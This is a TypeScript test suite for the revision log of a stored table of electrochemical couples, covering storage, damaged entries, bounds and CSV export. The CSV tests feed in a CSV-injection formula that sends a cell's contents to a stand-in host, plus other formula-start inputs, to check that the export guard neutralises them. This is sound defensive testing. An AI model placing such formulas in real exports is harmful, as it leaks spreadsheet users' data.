/**
 * The revision log of the stored table: round trip, old schemas starting an empty log, damaged entries
 * refused, what an entry records for an edit, the bounds, and the CSV comment lines' formula guard.
 * The expected values are the inputs themselves (a log records what was given); the formula-start
 * characters = + - @ are common practice for spreadsheet CSV injection (OWASP "CSV Injection" page).
 */
import { describe, expect, it } from 'vitest';
import { applyChange, pinnedCopy, type WorkbookCopy } from '../../src/store/copy';
import { exportCsv, importCsv } from '../../src/store/csv';
import {
  EMPTY_LOG,
  MAX_LOG_CHARS,
  MAX_LOG_ENTRIES,
  MAX_LOG_ROWS,
  type LogEntry,
  type RevisionLog,
  appendEntry,
  describeEntry,
  logChecksum,
  logEntry,
  logLines,
  signoffProblem,
} from '../../src/store/log';
import { contentChecksum, forgetLastRead, readStoredText, writeStoredText } from '../../src/store/stored';
import { MAX_REASON_CHARS } from '../../src/textLimits';
import { builtin, manyCouples, typicalEditLog } from './fixtures';

const B = builtin();
const AT = '2026-12-02T08:00:00.000Z';
const cu = () => B.couples.find((c) => c.key === 'Cu2+/Cu')!;
const pinned = (): WorkbookCopy => ({ ...pinnedCopy(B), revision: 1, changedAt: AT });
const edited = () => applyChange(pinned(), B, { kind: 'put', rowKind: 'couple', originalKey: 'Cu2+/Cu', record: { ...cu(), e0: 0.35, source: 'our lab, 2026', note: 'plating line 3' } });

function twoEntryLog(): { copy: WorkbookCopy; log: RevisionLog } {
  const p = pinned();
  const e = edited();
  let log = appendEntry(EMPTY_LOG, logEntry({ by: 'A. Tester', why: 'pin for the audit', revision: 1, at: AT, action: 'pin', basedOn: B.version, before: B, after: p }));
  log = appendEntry(log, logEntry({ by: 'B. Checker', why: 'measured in our lab', revision: 2, at: '2026-12-02T09:30:00.000Z', action: 'edit', basedOn: B.version, before: p, after: e }));
  return { copy: { ...e, revision: 2, changedAt: '2026-12-02T09:30:00.000Z', log }, log };
}

const read = (text: string) => {
  forgetLastRead();
  return readStoredText(text, B);
};

describe('revision log: storage', () => {
  it('round trip: the log reads back exactly, and writing the read copy gives the same text', () => {
    const { copy, log } = twoEntryLog();
    const text = writeStoredText(copy);
    const r = read(text);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.schema).toBe(3);
    expect(r.copy.log).toEqual(log);
    expect(JSON.parse(text).logChecksum).toBe(logChecksum(log));
    expect(writeStoredText(r.copy)).toBe(text);
  });

  it('the rows checksum does not cover the log: same rows, different histories, same checksum', () => {
    const { copy } = twoEntryLog();
    const withoutLog = read(writeStoredText({ ...copy, log: EMPTY_LOG }));
    const withLog = read(writeStoredText(copy));
    expect(withLog.ok && withoutLog.ok).toBe(true);
    if (!withLog.ok || !withoutLog.ok) return;
    expect(withLog.checksum).toBe(withoutLog.checksum);
    expect(withLog.checksum).toBe(contentChecksum(copy));
  });

  it('schema-2 texts read as before and start an empty log; the revision is kept', () => {
    const doc = JSON.parse(writeStoredText({ ...edited(), revision: 5, changedAt: AT }));
    doc.schema = 2;
    delete doc.log;
    delete doc.logChecksum;
    const r = read(JSON.stringify(doc));
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.schema).toBe(2);
    expect(r.copy.revision).toBe(5);
    expect(r.copy.log).toEqual(EMPTY_LOG);
    expect(r.table.findCouple('Cu2+/Cu')!.e0).toBe(0.35);
    // A schema-2 text holding a log is not ours to guess at.
    expect(read(JSON.stringify({ ...doc, log: EMPTY_LOG })).ok).toBe(false);
  });

  it('a schema-3 text without its log fields is damaged', () => {
    const doc = JSON.parse(writeStoredText(twoEntryLog().copy));
    delete doc.log;
    const r = read(JSON.stringify(doc));
    expect(!r.ok && r.problem.message).toMatch(/missing fields: log/);
  });
});

describe('revision log: damaged entries are refused (unreadable, never papered over)', () => {
  /** Damage one entry (the newest) and, unless told not to, recompute the log checksum so the entry checks are reached. */
  const damaged = (change: (e: Record<string, unknown>, doc: Record<string, unknown>) => void, reseal = true) => {
    const doc = JSON.parse(writeStoredText(twoEntryLog().copy));
    change(doc.log.entries[1], doc);
    if (reseal) doc.logChecksum = logChecksum(doc.log);
    return read(JSON.stringify(doc));
  };
  const cases: Array<[string, (e: Record<string, unknown>, doc: Record<string, unknown>) => void, RegExp]> = [
    ['a changed reason behind the old checksum', (e) => (e.why = 'something else'), /does not match its checksum/],
    ['no reason', (e) => (e.why = ''), /"why" is not a reason/],
    ['a blank name', (e) => (e.by = '   '), /"by" is not a name/],
    ['a reason over the length limit', (e) => (e.why = 'x'.repeat(MAX_REASON_CHARS + 1)), /"why" is not a reason/],
    ['a time that is not ISO 8601 UTC', (e) => (e.at = '2 Dec 2026 09:30'), /"at" is not a time/],
    ['an impossible date', (e) => (e.at = '2026-02-30T00:00:00Z'), /"at" is not a time/],
    ['an unknown action', (e) => (e.action = 'rewrite'), /"action" is not one of/],
    ['a revision above the table’s', (e) => (e.revision = 9), /"revision" is not a whole number from 1 to the table's revision 2/],
    ['revisions out of order', (e) => (e.revision = 1), /does not come after revision 1/],
    ['an unknown field', (e) => (e.signature = 'x'), /fields Cellwright does not write: "signature"/],
    ['a missing field', (e) => delete e.by, /has no by/],
    ['a row of an unknown table', (e) => ((e.rows as Record<string, unknown>[])[0].table = 'anodes'), /"table" is not "couples" or "electrodes"/],
    ['a field the row kind does not have', (e) => (((e.rows as Record<string, unknown>[])[0].fields as Record<string, unknown>[])[0].field = 'potential'), /is not one of the row's fields/],
    ['a value of the wrong type or length', (e) => (((e.rows as Record<string, unknown>[])[0].fields as Record<string, unknown>[])[0].to = 'x'.repeat(3000)), /"to" is not a text of at most|"to" is not a finite number/],
    ['a negative count of unlisted rows', (e) => (e.moreRows = -1), /"moreRows" is not a whole number/],
    ['a negative count of dropped entries', (_e, doc) => ((doc.log as Record<string, unknown>).dropped = -3), /"dropped" is not a whole number/],
    ['entries that are not a list', (_e, doc) => ((doc.log as Record<string, unknown>).entries = {}), /"entries" is not a list/],
    ['a log that is not { entries, dropped }', (_e, doc) => (doc.log = []), /not \{ entries, dropped \}/],
    ['a bad log checksum text', (_e, doc) => (doc.logChecksum = 'md5:0'), /"logChecksum" is not "sha256:"/],
  ];
  for (const [name, change, message] of cases) {
    it(name, () => {
      const r = damaged(change, !/behind the old checksum|bad log checksum/.test(name));
      expect(r.ok).toBe(false);
      if (r.ok) return;
      expect(['log', 'damaged']).toContain(r.problem.kind);
      expect([r.problem.message, ...r.problem.details].join(' | ')).toMatch(message);
    });
  }

  it('the undamaged text reads (the cases above fail for their damage, not for the set-up)', () => {
    expect(damaged(() => undefined).ok).toBe(true);
  });
});

describe('revision log: what an entry records', () => {
  it('an edit: table, key, and old → new value of each field that changed, with who, when and why', () => {
    const e = logEntry({ by: '  A. Tester ', why: ' measured in our lab ', revision: 2, at: AT, action: 'edit', basedOn: B.version, before: pinned(), after: edited() });
    expect(e).toEqual<LogEntry>({
      revision: 2,
      at: AT,
      by: 'A. Tester',
      why: 'measured in our lab',
      action: 'edit',
      basedOn: B.version,
      rows: [
        {
          table: 'couples',
          key: 'Cu2+/Cu',
          change: 'changed',
          fields: [
            { field: 'e0', from: cu().e0, to: 0.35 },
            { field: 'source', from: cu().source, to: 'our lab, 2026' },
            { field: 'note', from: cu().note!, to: 'plating line 3' },
          ],
        },
      ],
      moreRows: 0,
    });
    expect(describeEntry(e)).toEqual([
      'edited a row',
      `couple Cu2+/Cu: E° ${cu().e0} V → 0.35 V; source “${cu().source}” → “our lab, 2026”; note “${cu().note!}” → “plating line 3”`,
    ]);
  });

  it('added and removed rows carry their values', () => {
    const tl = { key: 'Tl+/Tl', halfReaction: 'Tl+ + e- -> Tl', e0: -0.336, source: 'our lab' };
    const added = applyChange(pinned(), B, { kind: 'put', rowKind: 'couple', originalKey: null, record: tl });
    const a = logEntry({ by: 'A', why: 'new bath', revision: 2, at: AT, action: 'add', basedOn: B.version, before: pinned(), after: added });
    expect(a.rows).toEqual([{ table: 'couples', key: 'Tl+/Tl', change: 'added', fields: [{ field: 'halfReaction', to: tl.halfReaction }, { field: 'e0', to: -0.336 }, { field: 'source', to: 'our lab' }] }]);
    const gone = applyChange(added, B, { kind: 'delete', rowKind: 'couple', key: 'Tl+/Tl' });
    const d = logEntry({ by: 'A', why: 'typo', revision: 3, at: AT, action: 'delete', basedOn: B.version, before: added, after: gone });
    expect(d.rows[0]).toMatchObject({ key: 'Tl+/Tl', change: 'removed', fields: [{ field: 'halfReaction', from: tl.halfReaction }, { field: 'e0', from: -0.336 }, { field: 'source', from: 'our lab' }] });
    expect(describeEntry(d)[1]).toBe('couple Tl+/Tl removed (was: half-reaction “Tl+ + e- -> Tl”, E° -0.336 V, source “our lab”)');
  });

  it('a pin lists no rows (the rows are the built-in table named by basedOn)', () => {
    const e = logEntry({ by: 'A', why: 'audit', revision: 1, at: AT, action: 'pin', basedOn: B.version, before: B, after: pinned() });
    expect(e.rows).toEqual([]);
    expect(describeEntry(e)).toEqual([`pinned the built-in table ${B.version} to the workbook`]);
  });

  it('an import of 2,000 rows lists the first rows and counts the rest', () => {
    const big = applyChange(pinned(), B, { kind: 'import', mode: 'merge', couples: manyCouples(2000), electrodes: [] });
    const e = logEntry({ by: 'A', why: 'bulk load', revision: 2, at: AT, action: 'import-merge', basedOn: B.version, before: pinned(), after: big });
    expect(e.rows.length).toBe(MAX_LOG_ROWS);
    expect(e.rows.length + e.moreRows).toBe(2000);
    expect(describeEntry(e).at(-1)).toBe(`and ${(2000 - MAX_LOG_ROWS).toLocaleString('en-US')} more rows (not listed in the log)`);
  });

  it('name and reason are required and bounded', () => {
    expect(signoffProblem({ by: 'A. Tester', why: 'x' })).toBeNull();
    expect(signoffProblem({ by: ' ', why: 'x' })).toMatch(/give your name/);
    expect(signoffProblem({ by: 'A', why: '  ' })).toMatch(/give a reason/);
    expect(signoffProblem({ by: 'A', why: 'x'.repeat(MAX_REASON_CHARS + 1) })).toMatch(/at most 500/);
  });
});

describe('revision log: bounds', () => {
  const small = (revision: number): LogEntry => ({ revision, at: AT, by: 'A', why: `change ${revision}`, action: 'edit', basedOn: B.version, rows: [], moreRows: 0 });

  it(`keeps the newest ${MAX_LOG_ENTRIES} entries and counts the dropped ones`, () => {
    let log = EMPTY_LOG;
    for (let r = 1; r <= MAX_LOG_ENTRIES + 5; r++) log = appendEntry(log, small(r));
    expect(log.entries.length).toBe(MAX_LOG_ENTRIES);
    expect(log.dropped).toBe(5);
    expect(log.entries[0].revision).toBe(6);
    expect(log.entries.at(-1)!.revision).toBe(MAX_LOG_ENTRIES + 5);
    expect(logLines(log)[0]).toBe(`Revision log, newest first: ${MAX_LOG_ENTRIES.toLocaleString('en-US')} entries (5 older entries dropped to keep the log within its bounds).`);
  });

  it(`keeps the log within ${MAX_LOG_CHARS.toLocaleString('en-US')} characters, always keeping the newest entry`, () => {
    let log = EMPTY_LOG;
    const long = (r: number): LogEntry => ({ ...small(r), why: 'w'.repeat(MAX_REASON_CHARS), by: 'b'.repeat(100) });
    for (let r = 1; r <= 1200; r++) log = appendEntry(log, long(r));
    expect(JSON.stringify(log).length).toBeLessThanOrEqual(MAX_LOG_CHARS + 100);
    expect(log.entries.at(-1)!.revision).toBe(1200);
    expect(log.dropped + log.entries.length).toBe(1200);
    // And the stored text still reads.
    const r = read(writeStoredText({ ...pinned(), revision: 1200, log }));
    expect(r.ok).toBe(true);
  });
});

describe('revision log: size and read time with 2,000 user rows and 500 entries', () => {
  it('stores within the limit and reads (checksums, every row and every entry checked) in a measured time', () => {
    const rows = manyCouples(2000);
    const copy = applyChange(pinned(), B, { kind: 'import', mode: 'merge', couples: rows, electrodes: [] });
    // Each entry a typical edit: one row's E° and source changed, a reason of about 60 characters.
    const log = typicalEditLog(rows, 500, B.version);
    expect(log.entries.length).toBe(500);
    const text = writeStoredText({ ...copy, revision: 500, changedAt: AT, log });
    const logChars = JSON.stringify(log).length;
    const times: number[] = [];
    for (let k = 0; k < 3; k++) {
      forgetLastRead();
      const t0 = performance.now();
      const r = readStoredText(text, B);
      times.push(performance.now() - t0);
      expect(r.ok).toBe(true);
    }
    expect(text.length).toBeLessThan(2_000_000);
    // For BENCHMARKS.md and DEVELOPERS.md.
    console.log(
      `2,000 user rows + ${B.couples.length} built-in couples + ${B.electrodes.length} electrodes + 500-entry log: ${text.length} characters (${new TextEncoder().encode(text).length} bytes UTF-8), of which the log ${logChars}; read ${times.map((t) => t.toFixed(0)).join(', ')} ms`,
    );
  });
});

describe('revision log in the CSV export', () => {
  const hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click"),+1;-2\t@SUM(A1)';

  function exported(): string {
    const p = pinned();
    const e = edited();
    let log = appendEntry(EMPTY_LOG, logEntry({ by: '@admin', why: hostile, revision: 1, at: AT, action: 'pin', basedOn: B.version, before: B, after: p }));
    log = appendEntry(log, logEntry({ by: '=cmd', why: '"=1+1', revision: 2, at: AT, action: 'edit', basedOn: B.version, before: p, after: { ...e, couples: e.couples.map((c) => (c.key === 'Cu2+/Cu' ? { ...c, note: '-2+3' } : c)) } }));
    return exportCsv(e, 'test', logLines(log));
  }

  it('writes the log as comment lines, newest first, and no piece a spreadsheet program splits off starts a formula', () => {
    const csv = exported();
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n').filter((l) => l !== '');
    const logStart = lines.findIndex((l) => l.startsWith('# Revision log'));
    expect(logStart).toBeGreaterThan(2);
    const logPart = lines.slice(logStart);
    expect(logPart.every((l) => l.startsWith('#'))).toBe(true);
    // One cell from "#" to the end (no separator in it): text, whatever follows.
    expect(logPart[1]).toBe('# Revision 2 at 2026-12-02T08:00:00.000Z by =cmd: edited a row. Reason: "=1+1');
    // Split at its commas and semicolons, the hostile reason's pieces each get an apostrophe.
    expect(logPart.find((l) => l.startsWith('# Revision 1 '))).toBe(
      `# Revision 1 at ${AT} by @admin: pinned the built-in table ${B.version} to the workbook. Reason: =HYPERLINK("http://example.invalid/?"&A1,'"click"),'+1;'-2\t'@SUM(A1)`,
    );
    expect(logPart.some((l) => l.startsWith('# Revision 1 '))).toBe(true);
    // Split every log line the ways a spreadsheet program may (comma, semicolon, tab): no cell starts
    // with = + - @ or a quote once leading blanks are skipped.
    for (const l of logPart) {
      for (const piece of l.split(/[,;\t]/)) expect(piece.trimStart(), l).not.toMatch(/^[=+\-@"]/);
    }
  });

  it('the import skips the log lines and reads the rows back exactly', () => {
    const imp = importCsv(exported());
    expect(imp.fileProblem).toBeUndefined();
    expect(imp.rejected).toEqual([]);
    expect(imp.couples.length).toBe(B.couples.length);
    expect(imp.couples.find((c) => c.key === 'Cu2+/Cu')).toMatchObject({ e0: 0.35, source: 'our lab, 2026', note: 'plating line 3' });
  });
});
